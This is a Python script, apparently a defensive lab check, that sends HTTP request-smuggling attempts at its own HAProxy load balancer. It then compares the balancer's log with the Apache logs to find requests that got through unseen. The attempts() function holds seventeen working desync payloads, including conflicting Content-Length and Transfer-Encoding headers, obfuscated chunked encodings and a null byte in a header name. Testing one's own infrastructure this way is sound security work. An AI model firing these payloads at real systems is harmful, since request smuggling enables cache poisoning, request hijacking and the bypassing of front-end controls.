# Copyright (c) 2026, siteops contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Try to get a second request past the load balancer of the lab's cluster; no web server may ever hear of it.

Each attempt is one connection and a few lines. What a web server has in its log must be in the load balancer's too: both agree on
where a request ends. The exit code is 1 where one was smuggled.
"""

from __future__ import annotations

import argparse
import contextlib
import re
import socket
import sys
import time
from collections.abc import Sequence
from pathlib import Path

from ..error_budget.cluster import CHECKOUT, ClusterError, Lab, table

SECONDS = 2.0
HEAD = "POST /livez HTTP/1.1\r\nHost: smuggling.example\r\n"
CHUNKED = "Transfer-Encoding: chunked\r\n"
END = "\r\n0\r\n\r\n"
SENT = re.compile(r"/smuggled-(\d+-[\w-]+)")


def inner(name: str) -> str:
    return f"GET /smuggled-{name} HTTP/1.1\r\nHost: smuggling.example\r\n\r\n"


def attempts(run: str) -> dict[str, str]:
    """By name, what is sent: a request with an end that two readers may see in two places, and behind it another one."""
    length = len(inner(f"{run}-length"))
    found = {
        "length-and-chunks": f"Content-Length: {length + 5}\r\n{CHUNKED}{END}",
        "chunks-and-length": f"{CHUNKED}Content-Length: 4\r\n{END}",
        "two-lengths": f"Content-Length: 0\r\nContent-Length: {length}\r\n\r\n",
        "two-lengths-turned": f"Content-Length: {length}\r\nContent-Length: 0\r\n\r\n",
        "lengths-in-one": f"Content-Length: 0, {length}\r\n\r\n",
        "signed-length": f"Content-Length: +{length}\r\n\r\n",
        "length-with-a-tail": f"Content-Length: {length}abc\r\n\r\n",
        "space-before-colon": f"Transfer-Encoding : chunked\r\nContent-Length: {length + 5}\r\n{END}",
        "folded": f"Transfer-Encoding:\r\n chunked\r\nContent-Length: {length + 5}\r\n{END}",
        "unknown-coding": f"Transfer-Encoding: xchunked\r\nContent-Length: {length + 5}\r\n{END}",
        "two-codings": f"{CHUNKED}Transfer-Encoding: identity\r\nContent-Length: {length + 5}\r\n{END}",
        "coding-after-a-tab": f"Transfer-Encoding:\tchunked\r\nContent-Length: {length + 5}\r\n{END}",
        "bare-newline": f"X: y\n{CHUNKED}Content-Length: {length + 5}\r\n{END}",
        "null-in-a-name": f"Transfer-Encoding\0: chunked\r\nContent-Length: {length + 5}\r\n{END}",
        "large-chunk": f"{CHUNKED}\r\nffffffffffffffff0\r\n",
        "newline-in-an-extension": f"{CHUNKED}\r\n2;\nxx\r\n{length:x}\r\n0\r\n\r\n",
        "old-version": f"{CHUNKED}Connection: keep-alive\r\n{END}",
    }
    sent = {name: HEAD + text + inner(f"{run}-{name}") for name, text in found.items()}
    sent["old-version"] = sent["old-version"].replace("HTTP/1.1", "HTTP/1.0", 1)
    return sent


def send(door: str, text: str) -> str:
    """The first line of the first answer; empty where none came."""
    answer = b""
    with socket.create_connection((door, 80), timeout=SECONDS) as connection:
        connection.sendall(text.encode("latin-1"))
        with contextlib.suppress(TimeoutError, ConnectionResetError):
            while part := connection.recv(65536):
                answer += part
    return answer.decode("latin-1").partition("\r\n")[0]


def names(log: str, run: str) -> set[str]:
    """The requests of this run in a log."""
    return {name.removeprefix(f"{run}-") for name in SENT.findall(log) if name.startswith(f"{run}-")}


def main(arguments: Sequence[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--inventory", type=Path, default=CHECKOUT / "inventory/lab")
    lab = Lab(parser.parse_args(arguments).inventory.resolve())
    groups, run = lab.groups(), str(int(time.time()))
    balancer = groups["haproxy"][0]
    door = lab.addresses()[balancer]
    # One that is sent openly, or nothing that was found would mean anything.
    answers = {"openly": send(door, inner(f"{run}-openly").replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n"))}
    answers |= {name: send(door, text) for name, text in attempts(run).items()}
    time.sleep(1)
    passed = names(lab.on(balancer, "tail", "-n", "5000", "/var/log/haproxy/requests.log"), run)
    heard = set[str]()
    for host in groups["apache_php"]:
        heard |= names(lab.on(host, "tail", "-n", "5000", "/var/log/apache2/access.log"), run)
    lines = [
        (name, answer or "closed", name in passed, name in heard, "SMUGGLED" if name in heard - passed else "")
        for name, answer in answers.items()
    ]
    print(table(("attempt", "answer", "known to the balancer", "reached a web server", ""), lines))
    if not {"openly"} <= passed & heard:
        raise ClusterError("The request that was sent openly is not in both logs.")
    print(f"\nsmuggling-check: {len(answers) - 1} attempts, {len(heard - passed)} smuggled.")
    return 1 if heard - passed else 0


if __name__ == "__main__":
    try:
        sys.exit(main(sys.argv[1:]))
    except ClusterError as error:
        sys.exit(f"smuggling-check: {error}")
